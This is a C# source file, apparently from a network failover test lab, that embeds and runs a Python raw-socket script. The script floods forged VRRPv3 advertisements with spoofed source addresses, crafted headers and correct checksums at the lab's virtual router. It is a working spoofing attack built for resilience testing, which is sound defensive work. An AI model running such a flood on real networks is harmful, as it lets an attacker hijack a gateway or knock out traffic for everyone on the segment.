using System.Globalization;
using Vigil.Demo;

namespace Vigil.Lab.Chaos;

/// <summary>
/// Forged VRRPv3 adverts sent as fast as the client can, each from a different source address (raw IPv4 with the
/// header written by hand: TTL 255, protocol 112, a correct checksum), for the lab's VRID and VIP: what anyone on the
/// segment can do, since VRRPv3 has no authentication. Sent by Python's raw sockets from the client's namespace.
/// </summary>
public static class AdvertFlood
{
    private const string Script = """
        import socket, struct, sys
        count, priority, vrid, vip = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), socket.inet_aton(sys.argv[4])
        def checksum(data):
            if len(data) % 2: data += b"\0"
            total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
            while total >> 16: total = (total & 0xFFFF) + (total >> 16)
            return ~total & 0xFFFF
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        group = socket.inet_aton("224.0.0.18")
        for i in range(count):
            source = bytes([203, 0, 113, 1 + i % 250]) if i % 2 else bytes([198, 51, 100, 1 + (i // 2) % 9])
            vrrp = struct.pack("!BBBBH", 0x31, vrid, priority, 1, 10) + b"\0\0" + vip
            pseudo = source + group + struct.pack("!BBH", 0, 112, len(vrrp))
            vrrp = vrrp[:6] + struct.pack("!H", checksum(pseudo + vrrp)) + vrrp[8:]
            header = struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 20 + len(vrrp), i & 0xFFFF, 0, 255, 112, 0, source, group)
            sock.sendto(header + vrrp, ("224.0.0.18", 0))
        """;

    /// <summary>Sends <paramref name="count"/> forged adverts of <paramref name="priority"/>; returns when they are all out.</summary>
    public static void Send(FailoverLab lab, int count, int priority)
    {
        var script = Path.Combine(lab.Directory, "flood.py");
        File.WriteAllText(script, Script);
        // Multicast out of eth0: the client has no route for 224.0.0.0/4 otherwise.
        NamespaceLab.Run("ip", "-n", lab.Client.Namespace, "route", "replace", "224.0.0.0/4", "dev", "eth0");
        var (exitCode, output) = NamespaceLab.Run("ip", "netns", "exec", lab.Client.Namespace, "python3", script,
            count.ToString(CultureInfo.InvariantCulture), priority.ToString(CultureInfo.InvariantCulture), "51", lab.Scenario.Vip);
        LabException.ThrowUnless(exitCode == 0, $"the flood did not go out: {output}");
    }
}
